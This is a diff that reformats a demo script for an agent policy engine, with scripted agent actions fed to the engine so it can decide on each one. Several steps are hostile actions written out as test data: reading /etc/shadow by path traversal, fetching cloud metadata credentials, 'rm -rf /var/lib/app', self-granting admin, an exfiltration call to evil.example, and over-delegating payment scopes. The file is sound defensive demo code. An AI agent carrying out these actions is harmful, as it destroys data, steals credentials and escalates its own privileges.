@@ -43,46 +43,105 @@ def _script() -> list[DemoStep]:
         session_scopes=["fs:read", "net:http", "email:send", "payments:refund", "db:read"],
     )
     return [
-        DemoStep("Look up the refund policy online", ToolCall(
-            action="web_search", args={"query": "refund policy"}, context=ctx)),
-        DemoStep("Read the customer's ticket", ToolCall(
-            action="read_file", args={"path": "/srv/tickets/4711.txt"}, context=ctx)),
-        DemoStep("Read a file via a traversal trick", ToolCall(
-            action="read_file", args={"path": "/srv/tickets/../../etc/shadow"}, context=ctx)),
-        DemoStep("Fetch cloud metadata credentials", ToolCall(
-            action="http_get", args={"url": "http://169.254.169.254/latest/meta-data/"},
-            context=ctx)),
-        DemoStep("Query the orders table", ToolCall(
-            action="sql_query", args={"query": "SELECT * FROM orders WHERE id = 7"},
-            context=ctx)),
-        DemoStep("Refund 50 EUR to the customer", ToolCall(
-            action="approve_refund", args={"customer_id": "c-4711", "amount": 50}, context=ctx)),
-        DemoStep("Email the customer", ToolCall(
-            action="send_email", args={"to": "customer@example.com", "subject": "Your refund"},
-            context=ctx)),
-        DemoStep("Run a shell command", ToolCall(
-            action="run_shell", args={"command": "rm -rf /var/lib/app"}, context=ctx)),
-        DemoStep("Grant myself admin rights", ToolCall(
-            action="grant_permission", args={"user": "support-agent", "role": "admin"},
-            context=ctx)),
-        DemoStep("Call a tool nobody registered", ToolCall(
-            action="exfiltrate_db", args={"target": "https://evil.example"}, context=ctx)),
-        DemoStep("Send confidential data to an external tool", ToolCall(
-            action="http_get", args={"url": "https://api.partner.example/upload"},
-            data_labels=["confidential"], context=ctx)),
-        DemoStep("Spawn a researcher sub-agent with fewer rights", AgentSpawn(
-            action="researcher", requested_capabilities=["fs:read"],
-            parent_capabilities=list(ctx.session_scopes), context=ctx)),
-        DemoStep("Delegate with more scopes than I hold", Delegation(
-            action="billing-agent", child_scopes=["payments:transfer"], context=ctx)),
-        DemoStep("Propose a plan: read, then delete", PlanProposal(
-            action="cleanup", steps=[PlanStep("read_file", {"path": "/srv/tickets/1.txt"}),
-                                     PlanStep("delete_file", {"path": "/srv/tickets/1.txt"})],
-            context=ctx)),
-        DemoStep("Spend 500 tokens with 100 left", ResourceUse(
-            action="llm_tokens", requested={"tokens": 500}, context=ctx)),
-        DemoStep("Read the public price list", DataAccess(
-            action="price_list", classification="public", context=ctx)),
+        DemoStep(
+            "Look up the refund policy online",
+            ToolCall(action="web_search", args={"query": "refund policy"}, context=ctx),
+        ),
+        DemoStep(
+            "Read the customer's ticket",
+            ToolCall(action="read_file", args={"path": "/srv/tickets/4711.txt"}, context=ctx),
+        ),
+        DemoStep(
+            "Read a file via a traversal trick",
+            ToolCall(
+                action="read_file", args={"path": "/srv/tickets/../../etc/shadow"}, context=ctx
+            ),
+        ),
+        DemoStep(
+            "Fetch cloud metadata credentials",
+            ToolCall(
+                action="http_get",
+                args={"url": "http://169.254.169.254/latest/meta-data/"},
+                context=ctx,
+            ),
+        ),
+        DemoStep(
+            "Query the orders table",
+            ToolCall(
+                action="sql_query", args={"query": "SELECT * FROM orders WHERE id = 7"}, context=ctx
+            ),
+        ),
+        DemoStep(
+            "Refund 50 EUR to the customer",
+            ToolCall(
+                action="approve_refund", args={"customer_id": "c-4711", "amount": 50}, context=ctx
+            ),
+        ),
+        DemoStep(
+            "Email the customer",
+            ToolCall(
+                action="send_email",
+                args={"to": "customer@example.com", "subject": "Your refund"},
+                context=ctx,
+            ),
+        ),
+        DemoStep(
+            "Run a shell command",
+            ToolCall(action="run_shell", args={"command": "rm -rf /var/lib/app"}, context=ctx),
+        ),
+        DemoStep(
+            "Grant myself admin rights",
+            ToolCall(
+                action="grant_permission",
+                args={"user": "support-agent", "role": "admin"},
+                context=ctx,
+            ),
+        ),
+        DemoStep(
+            "Call a tool nobody registered",
+            ToolCall(action="exfiltrate_db", args={"target": "https://evil.example"}, context=ctx),
+        ),
+        DemoStep(
+            "Send confidential data to an external tool",
+            ToolCall(
+                action="http_get",
+                args={"url": "https://api.partner.example/upload"},
+                data_labels=["confidential"],
+                context=ctx,
+            ),
+        ),
+        DemoStep(
+            "Spawn a researcher sub-agent with fewer rights",
+            AgentSpawn(
+                action="researcher",
+                requested_capabilities=["fs:read"],
+                parent_capabilities=list(ctx.session_scopes),
+                context=ctx,
+            ),
+        ),
+        DemoStep(
+            "Delegate with more scopes than I hold",
+            Delegation(action="billing-agent", child_scopes=["payments:transfer"], context=ctx),
+        ),
+        DemoStep(
+            "Propose a plan: read, then delete",
+            PlanProposal(
+                action="cleanup",
+                steps=[
+                    PlanStep("read_file", {"path": "/srv/tickets/1.txt"}),
+                    PlanStep("delete_file", {"path": "/srv/tickets/1.txt"}),
+                ],
+                context=ctx,
+            ),
+        ),
+        DemoStep(
+            "Spend 500 tokens with 100 left",
+            ResourceUse(action="llm_tokens", requested={"tokens": 500}, context=ctx),
+        ),
+        DemoStep(
+            "Read the public price list",
+            DataAccess(action="price_list", classification="public", context=ctx),
+        ),
     ]
 
 
@@ -100,8 +159,9 @@ def _render(steps: list[DemoStep], decisions: list[Decision]) -> None:
     from rich.console import Console
     from rich.table import Table
 
-    table = Table(title="Kite Logik demo: every action decided by policy before it runs",
-                  show_lines=True)
+    table = Table(
+        title="Kite Logik demo: every action decided by policy before it runs", show_lines=True
+    )
     table.add_column("#", justify="right")
     table.add_column("agent wants to")
     table.add_column("event")
@@ -130,8 +190,10 @@ def _render(steps: list[DemoStep], decisions: list[Decision]) -> None:
 
 def run_demo(policy_dir: str | None = None) -> int:
     if os.environ.get("ANTHROPIC_API_KEY") or os.environ.get("OPENAI_API_KEY"):
-        print("An API key is set; the demo still uses its scripted agent so that the run is "
-              "reproducible. See examples/ for agents driven by a real model.")
+        print(
+            "An API key is set; the demo still uses its scripted agent so that the run is "
+            "reproducible. See examples/ for agents driven by a real model."
+        )
     steps = _script()
     with tempfile.TemporaryDirectory() as home:
         # The demo's audit log goes to a throwaway directory, not into the caller's project.
